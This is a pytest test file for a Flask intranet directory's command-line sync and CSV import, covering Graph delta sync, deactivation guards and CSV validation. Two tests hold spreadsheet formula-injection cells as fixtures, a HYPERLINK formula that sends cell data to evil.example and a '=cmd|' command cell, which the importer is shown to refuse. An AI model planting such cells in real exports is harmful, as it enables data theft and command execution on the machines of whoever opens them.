"""Every ``flask intranet directory ...`` command in README.md, run through the command line.

Graph syncs go through the real msal + requests against the HTTPS fake of Entra ID and Graph;
HR and canonical files are written to disk and named on the command line, as an admin would.
"""
from __future__ import annotations

import shutil
from typing import Any

import pytest
from sqlmodel import select

from intranet.models import EmployeeDirectory, SyncRun, SyncState
from tests.directory_support import DIRTY, employees, last_run, quarantine


@pytest.fixture
def graph_app(make_app, entra_server):  # type: ignore[no-untyped-def]
    """The app configured for Entra ID as a deployment would be (small pages, so rounds span several)."""
    return make_app(**entra_server.config(), INTRANET_GRAPH_PAGE_SIZE=7)


def cli(app: Any, *args: str) -> Any:
    return app.test_cli_runner().invoke(args=["intranet", "directory", *args])


def org(fake: Any, n: int) -> list[str]:
    """A CEO and *n* - 1 reports, as Entra would list them (plus a guest and a room that are not employees)."""
    ids = [fake.add_user(displayName="Carla Chef", employeeId="E0001", department="Executive", country="US",
                         officeLocation="HQ", jobTitle="CEO", mail="carla@contoso.test",
                         onPremisesExtensionAttributes={"extensionAttribute1": "L10"})]
    for i in range(2, n + 1):
        ids.append(fake.add_user(manager=ids[0], displayName=f"Person {i}", employeeId=f"E{i:04d}",
                                 mail=f"person{i}@contoso.test", department="R&D" if i % 2 else "Sales",
                                 country="DE", officeLocation="Berlin", jobTitle="Engineer",
                                 employeeOrgData={"division": "Corp", "costCenter": "CC-9"},
                                 onPremisesExtensionAttributes={"extensionAttribute1": "Level 4"}))
    fake.add_user(displayName="Guest", userType="Guest", employeeId="G1")
    fake.add_user(displayName="Conf Room Adams", employeeId=None)
    return ids


def test_sync_first_run_is_full_with_progress_and_summary(graph_app, entra_server, db):
    """`directory sync` with no deltaLink yet: a full round over several pages, a progress count, a summary."""
    org(entra_server.fake, 20)
    result = cli(graph_app, "sync")
    assert result.exit_code == 0, result.output
    assert "Reading Graph: 22 users" in result.output
    assert "succeeded: 22 seen, 20 created, 0 updated, 0 deactivated" in result.output
    people = employees(db)
    assert len(people) == 20 and "G1" not in people
    assert people["E0003"].department == "Research & Development" and people["E0003"].manager_id == "E0001"
    assert people["E0003"].level == 4 and people["E0001"].level == 10
    assert db.get(EmployeeDirectory, people["E0003"].id).cost_center == "CC-9"
    run = last_run(db)
    assert (run.trigger, run.mode, run.status, run.delta_committed) == ("cli", "full", "succeeded", True)
    assert entra_server.fake.count("/users/delta") >= 4  # 22 users in pages of 7


def test_sync_follows_the_delta_link_through_a_429(graph_app, entra_server, db):
    """The second `directory sync` is incremental from the stored deltaLink and waits out a 429's Retry-After."""
    fake = entra_server.fake
    ids = org(fake, 10)
    assert cli(graph_app, "sync").exit_code == 0
    link = db.get(SyncState, "graph").delta_link
    fake.update_user(ids[3], department="Legal", jobTitle=None)
    fake.remove_user(ids[5], "changed")
    fake.inject(429, times=1, retry_after=1, on_path="/users/delta")
    calls_before = len(fake.calls)
    result = cli(graph_app, "sync")
    assert result.exit_code == 0, result.output
    assert "Reading Graph: 2 users" in result.output
    assert "succeeded: 2 seen, 0 created, 1 updated, 1 deactivated" in result.output
    people = employees(db)
    assert people["E0004"].department == "Legal" and people["E0004"].job_title is None
    assert people["E0004"].country == "DE"  # absent from the round: unchanged
    assert not people["E0006"].active
    db.expire_all()
    assert (last_run(db).mode, db.get(SyncState, "graph").delta_link != link) == ("delta", True)
    deltas = [c for c in fake.calls[calls_before:] if c.path.endswith("/users/delta")]
    token = link.split("$deltatoken=")[1]
    assert [c.query.get("$deltatoken") for c in deltas] == [token, token]  # throttled, then retried as is


def test_sync_full_sweeps_people_gone_from_entra(graph_app, entra_server, db):
    """`directory sync --full` re-reads everything and deactivates who is no longer there (mark and sweep)."""
    fake = entra_server.fake
    ids = org(fake, 8)
    assert cli(graph_app, "sync").exit_code == 0
    fake.remove_user(ids[7], "deleted")
    fake.expire_delta_tokens()  # the sweep must not depend on the delta round reporting the removal
    result = cli(graph_app, "sync", "--full")
    assert result.exit_code == 0, result.output
    assert "succeeded:" in result.output and "1 deactivated" in result.output
    assert last_run(db).mode == "full"
    people = employees(db)
    assert not people["E0008"].active and sum(p.active for p in people.values()) == 7


def test_sync_held_by_the_guard_says_what_to_do(graph_app, entra_server, db):
    """A round that would deactivate most people is held; the command says so and changes nothing."""
    fake = entra_server.fake
    ids = org(fake, 40)
    assert cli(graph_app, "sync").exit_code == 0
    for oid in ids[1:31]:
        fake.remove_user(oid, "changed")
    result = cli(graph_app, "sync")
    assert result.exit_code == 0, result.output
    assert "held" in result.output and "directory admin page" in result.output
    assert all(p.active for p in employees(db).values())


def test_sync_failure_exits_non_zero_with_the_reason(graph_app, entra_server, db):
    """Graph refusing the app (no User.Read.All) ends the command with status 1 and Graph's message."""
    entra_server.fake.inject(403, times=5, on_path="/users/delta")
    result = cli(graph_app, "sync")
    assert result.exit_code == 1
    assert "failed" in result.output and "User.Read.All" in result.output
    assert last_run(db).status == "failed"


def test_sync_source_hr_imports_a_workday_export(app, db, tmp_path):
    """`directory sync --source hr FILE` reads a dirty Workday export: a progress bar, a summary, quarantine."""
    export = shutil.copy(DIRTY, tmp_path / DIRTY.name)
    result = cli(app, "sync", "--source", "hr", str(export))
    assert result.exit_code == 0, result.output
    assert "Reading HR file" in result.output
    assert "succeeded: 11 seen, 8 created" in result.output and "5 quarantined, 3 unmapped values" in result.output
    people = employees(db)
    assert people["E0008"].department == "Research & Development" and people["E0008"].manager_id == "E0001"
    assert not people["E0004"].active
    assert ("E0002", "duplicate_key") in quarantine(db)
    run = last_run(db)
    assert (run.source, run.trigger, run.file_name, run.rows) == ("hr", "cli", DIRTY.name, 11)


def test_sync_source_hr_with_as_of_and_mapping(app, db, tmp_path):
    """--as-of dates a file whose name has no date; --mapping picks another HR system's columns."""
    export = tmp_path / "bamboo.csv"
    export.write_text("employeeNumber,workEmail,firstName,lastName,department,status\n"
                      "1001,ana@contoso.test,Ana,Lima,Sales,Active\n", encoding="utf-8")
    refused = cli(app, "sync", "--source", "hr", str(export), "--mapping", "bamboohr")
    assert refused.exit_code == 1 and "--as-of" in refused.output
    result = cli(app, "sync", "--source", "hr", str(export), "--mapping", "bamboohr", "--as-of", "2026-11-24")
    assert result.exit_code == 0, result.output
    assert employees(db)["1001"].email == "ana@contoso.test"


def test_sync_usage_errors(app, db, tmp_path):
    """--source hr without a file, or a file for Graph, is a usage error that runs nothing."""
    export = shutil.copy(DIRTY, tmp_path / DIRTY.name)
    assert cli(app, "sync", "--source", "hr").exit_code == 2
    assert cli(app, "sync", str(export)).exit_code == 2
    assert db.exec(select(SyncRun)).all() == []


CANONICAL = ("employee_id,email,display_name,department,division,region,country,office,job_title,level,manager_id,"
             "timezone,language,status")


def canonical_org(n: int) -> list[list[str]]:
    """A believable organisation as an HR team would export it: a management tree, quoted names, accents."""
    rows = [["E0001", "Carla.Chef@Contoso.test", "Chef, Carla", "Executive", "Corporate", "AMER", "US", "HQ", "CEO",
             "10", "", "America/New_York", "en-US", "active"]]
    depts = ("Sales", "Finance", "Research & Development", "Legal")
    zones = (("DE", "EMEA", "Europe/Berlin", "de"), ("FR", "EMEA", "Europe/Paris", "fr"),
             ("US", "AMER", "America/Chicago", "en"), ("JP", "APAC", "Asia/Tokyo", "ja"))
    for i in range(2, n + 1):
        country, region, zone, language = zones[i % 4]
        manager = "E0001" if i <= 10 else f"E{(i % 9) + 2:04d}"
        rows.append([f"E{i:04d}", f"person{i}@contoso.test", f"Müller-Łukasz {i}", depts[i % 4], "Corporate",
                     region, country, f"Office {i % 7}", "Analyst, Senior" if i % 3 else "Engineer",
                     str(1 + i % 9), manager, zone, language, "inactive" if i % 50 == 0 else "active"])
    return rows


def write_canonical(path: Any, rows: list[list[str]]) -> Any:
    import csv
    import io

    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")  # Excel's "CSV UTF-8": BOM and CRLF
    writer.writerow(CANONICAL.split(","))
    writer.writerows(rows)
    path.write_bytes(b"\xef\xbb\xbf" + buffer.getvalue().encode("utf-8"))
    return path


def test_import_csv_realistic_file(app, db, tmp_path):
    """`directory import-csv people.csv`: 300 people with a management tree, quoted cells and accents, then a re-import."""
    path = write_canonical(tmp_path / "people.csv", canonical_org(300))
    result = cli(app, "import-csv", str(path))
    assert result.exit_code == 0, result.output
    assert "Imported 300 employees: 300 created, 0 updated, 0 unchanged" in result.output
    people = employees(db)
    assert len(people) == 300 and sum(not p.active for p in people.values()) == 6
    carla, p43 = people["E0001"], people["E0043"]
    assert (carla.display_name, carla.email, carla.level) == ("Chef, Carla", "carla.chef@contoso.test", 10)
    assert (p43.display_name, p43.manager_id, p43.timezone, p43.job_title) == (
        "Müller-Łukasz 43", "E0009", "Asia/Tokyo", "Analyst, Senior")
    again = cli(app, "import-csv", str(path))
    assert again.exit_code == 0 and "0 created, 0 updated, 300 unchanged" in again.output


def canonical_rows(*rows: list[str]) -> str:
    return "\n".join([CANONICAL, *(",".join(r) for r in rows)]) + "\n"


def row(eid: str, email: str | None = None, *, name: str = "", manager: str = "", status: str = "active",
        office: str = "Berlin", title: str = "Analyst") -> list[str]:
    email = f"{eid.lower()}@contoso.test" if email is None else email
    return [eid, email, name or f"Person {eid}", "Sales", "Corporate", "EMEA", "DE", office, title, "4", manager,
            "Europe/Berlin", "de", status]


def import_text(app: Any, tmp_path: Any, text: str | bytes, name: str = "people.csv") -> Any:
    path = tmp_path / name
    path.write_bytes(text if isinstance(text, bytes) else text.encode("utf-8"))
    return cli(app, "import-csv", str(path))


def refused(result: Any, *expected: str) -> None:
    """The command exited 1 with a line-numbered report (never a traceback) naming each expected problem."""
    assert result.exit_code == 1, result.output
    assert isinstance(result.exception, SystemExit) and "Traceback" not in result.output
    assert "nothing was imported" in result.output
    for text in expected:
        assert text in result.output, result.output


def test_import_csv_is_a_recorded_run(app, db, tmp_path):
    """import-csv leaves a run record (source csv, file, counts); a refused file leaves a failed run with the report."""
    assert import_text(app, tmp_path, canonical_rows(row("E1"), row("E2", manager="E1"))).exit_code == 0
    run = last_run(db)
    assert (run.source, run.mode, run.trigger, run.status, run.file_name) == ("csv", "file", "cli", "succeeded",
                                                                              "people.csv")
    assert (run.seen, run.created, run.rows) == (2, 2, 2) and run.file_sha256
    refused(import_text(app, tmp_path, canonical_rows(row("E3", status="gone"))), "line 2: status 'gone'")
    run = last_run(db)
    assert run.status == "failed" and "line 2: status 'gone'" in run.error
    assert set(employees(db)) == {"E1", "E2"}


def test_import_csv_mass_deactivation_is_held_for_an_admin(app, db, tmp_path, client_for, make_employee):
    """A file that would deactivate more than the guard allows changes nothing until an admin approves it."""
    everyone = [row(f"E{i:03d}") for i in range(40)]
    assert import_text(app, tmp_path, canonical_rows(*everyone)).exit_code == 0
    leavers = [row(f"E{i:03d}", status="inactive" if i < 30 else "active") for i in range(40)]
    result = import_text(app, tmp_path, canonical_rows(*leavers))
    assert result.exit_code == 0 and "held" in result.output and "approve" in result.output
    assert all(p.active for p in employees(db).values())
    held = last_run(db)
    assert held.status == "held" and "deactivate 30 of 40" in held.error
    admin = client_for(make_employee(is_admin=True))
    page = admin.get(f"/admin/directory/runs/{held.id}").get_data(as_text=True)
    assert "E000" in page
    admin.post(f"/admin/directory/runs/{held.id}/approve", data={"csrf_token": admin.csrf})
    people = employees(db)
    assert sum(not p.active for p in people.values()) == 30 and last_run(db).status == "approved"


def test_import_csv_reactivates_only_on_explicit_status(app, db, tmp_path):
    """status=active brings someone back; an empty status and absence from the file change nothing."""
    import_text(app, tmp_path, canonical_rows(row("E1", status="inactive"), row("E2")))
    result = import_text(app, tmp_path, canonical_rows(row("E1", status=""), row("E3")))
    assert "1 created, 0 updated, 1 unchanged, 0 deactivated" in result.output
    assert (employees(db)["E1"].active, employees(db)["E2"].active) == (False, True)
    result = import_text(app, tmp_path, canonical_rows(row("E1", status="active")))
    assert "0 created, 1 updated, 0 unchanged" in result.output and employees(db)["E1"].active


def test_import_csv_truncated_last_row(app, db, tmp_path):
    """A file cut off in its last row is refused (the row has too few cells), naming the line."""
    text = canonical_rows(row("E1"), row("E2"), row("E3"))
    refused(import_text(app, tmp_path, text[:-40]), "line 4: 8 cells but the header has 14 (a truncated row?)")
    assert employees(db) == {}


def test_import_csv_unclosed_quote(app, db, tmp_path):
    """A quote that never closes is reported at the line it opens, whether it swallows lines or hits the end."""
    lines = canonical_rows(row("E1"), row("E2", name='"Person E2'), row("E3")).splitlines()
    refused(import_text(app, tmp_path, "\n".join(lines) + "\n"), "line 3: a quote opened in this record is never closed")
    lines.append('E4,e4@contoso.test,"Four",Sales,Corporate,EMEA,DE,Berlin,"Analyst"x,4,,Europe/Berlin,de,active')
    refused(import_text(app, tmp_path, "\n".join(lines) + "\n"), "line 3: the CSV quoting is broken",
            "runs from line 3 to line 5")
    assert employees(db) == {}


def test_import_csv_refuses_formula_cells(app, db, tmp_path):
    """Cells a spreadsheet would run as formulas are refused, each with its line, and nothing is imported."""
    text = canonical_rows(
        row("E1"),
        row("=1+1"),
        row("E3", name='"=HYPERLINK(""https://evil.example/?""&A1,""Click"")"'),
        row("E4", title="+SUM(A1:A9)"),
        row("E5", office="@Berlin"),
        row("E6", name="-2+3"),
        row("E7", office='"\tTab"'),
    )
    refused(import_text(app, tmp_path, text), "line 3: employee_id '=1+1' starts with '='",
            "line 4: display_name '=HYPERLINK(", "line 5: job_title '+SUM(A1:A9)' starts with '+'",
            "line 6: office '@Berlin' starts with '@'", "line 7: display_name '-2+3' starts with '-'",
            "line 8: office 'Tab' starts with '\\t'")
    assert employees(db) == {}


def test_import_csv_refuses_manager_cycles(app, db, tmp_path):
    """A manager loop within the file, or closed through people already in the directory, is refused."""
    import_text(app, tmp_path, canonical_rows(row("C1"), row("C2", manager="C1")))
    result = import_text(app, tmp_path, canonical_rows(row("A1", manager="A2"), row("A2", manager="A1"),
                                                       row("C1", manager="C2")))
    refused(result, "line 2: the manager chain loops: A1 -> A2 -> A1", "line 3: the manager chain loops: A2 -> A1 -> A2",
            "line 4: the manager chain loops: C1 -> C2 -> C1")
    assert set(employees(db)) == {"C1", "C2"} and employees(db)["C1"].manager_id is None


def test_import_csv_refuses_duplicate_emails(app, db, tmp_path, make_employee, client_for):
    """Emails are compared without case, in the file and against the directory: a second ADMIN@ cannot lock the admin out."""
    admin = make_employee(employee_id="A0", email="admin@contoso.test", is_admin=True)
    result = import_text(app, tmp_path, canonical_rows(row("E1", "ana@contoso.test"), row("E2", "ANA@Contoso.test"),
                                                       row("E3", "ADMIN@contoso.test")))
    refused(result, "line 3: email 'ana@contoso.test' also appears on line 2",
            "line 4: email 'admin@contoso.test' already belongs to employee A0")
    assert set(employees(db)) == {"A0"}
    client = client_for(None)
    response = client.post("/auth/dev-login", data={"email": "admin@contoso.test", "csrf_token": client.csrf})
    assert response.status_code == 302
    assert client.get("/admin/directory/").status_code == 200
    # Moving an email from one person to another in the same file is fine.
    import_text(app, tmp_path, canonical_rows(row("E1", "ana@contoso.test")))
    moved = import_text(app, tmp_path, canonical_rows(row("E1", "ana.old@contoso.test"), row("E2", "ana@contoso.test")))
    assert moved.exit_code == 0, moved.output
    assert admin.id is not None


def test_import_csv_utf16_and_cp1252(app, db, tmp_path):
    """Excel's UTF-16 (with or without BOM) is read; a cp1252 file is refused with how to save it as UTF-8."""
    text = canonical_rows(row("E1", name="Zoë Łukasiewicz"), row("E2", name="Jürgen Groß"))
    assert import_text(app, tmp_path, text.encode("utf-16")).exit_code == 0
    assert import_text(app, tmp_path, text.replace("Zoë", "Zoé").encode("utf-16-le")).exit_code == 0
    assert employees(db)["E1"].display_name == "Zoé Łukasiewicz"
    legacy = canonical_rows(row("E1"), row("E3", name="René Müller")).encode("cp1252")
    refused(import_text(app, tmp_path, legacy), "line 3: byte 0xE9 (column 23) is not UTF-8", "CSV UTF-8")
    assert set(employees(db)) == {"E1", "E2"}


def test_import_csv_huge_field_and_long_values(app, db, tmp_path):
    """A cell over the csv module's limit, or longer than its column, is a line in the report, not a traceback."""
    refused(import_text(app, tmp_path, canonical_rows(row("E1"), row("E2", title="x" * 300))),
            "line 3: job_title is 300 characters long; at most 255 fit")
    refused(import_text(app, tmp_path, canonical_rows(row("E1"), row("E2", title="x" * 131_073))),
            "line 3: a cell is longer than 131,072 characters")
    assert employees(db) == {}


def test_import_csv_reports_every_problem_at_once(app, db, tmp_path):
    """Problems of different kinds in one file come back in one report, in line order."""
    text = canonical_rows(row("E1"), row("E2", "e1@contoso.test"), row("E3", title="=cmd|'/c calc'!A1"),
                          row("E4", manager="E9"), row("E5", manager="E6"), row("E6", manager="E5"))
    refused(import_text(app, tmp_path, text + "E7,e7@contoso.test,Seven\n"),
            "line 3: email 'e1@contoso.test' also appears on line 2", "line 4: job_title", "line 5: manager_id 'E9'",
            "line 6: the manager chain loops", "line 7: the manager chain loops", "line 8: 3 cells")
    assert employees(db) == {}


def test_import_csv_zones_are_the_ones_people_can_choose(app, db, tmp_path):
    """`localtime` (the server's zone) and `Factory` are refused; a link such as US/Eastern is stored canonical."""
    def with_zone(eid: str, zone: str) -> list[str]:
        cells = row(eid)
        cells[11] = zone
        return cells

    refused(import_text(app, tmp_path, canonical_rows(with_zone("E1", "localtime"), with_zone("E2", "Factory"))),
            "line 2: timezone 'localtime' is not an IANA time zone", "line 3: timezone 'Factory' is not")
    assert employees(db) == {}
    result = import_text(app, tmp_path, canonical_rows(with_zone("E1", "US/Eastern"), with_zone("E2", "Etc/UTC")))
    assert result.exit_code == 0, result.output
    assert (employees(db)["E1"].timezone, employees(db)["E2"].timezone) == ("America/New_York", "UTC")


def test_import_csv_ignores_empty_trailing_columns(app, db, tmp_path):
    """Empty columns a spreadsheet adds after the last one are ignored; a value in them is still refused."""
    text = canonical_rows(row("E1"), row("E2")).replace("\n", ",,\n")
    result = import_text(app, tmp_path, text)
    assert result.exit_code == 0 and "2 created" in result.output, result.output
    refused(import_text(app, tmp_path, text[:-1] + "oops\n"), "line 3: 16 cells but the header has 14")
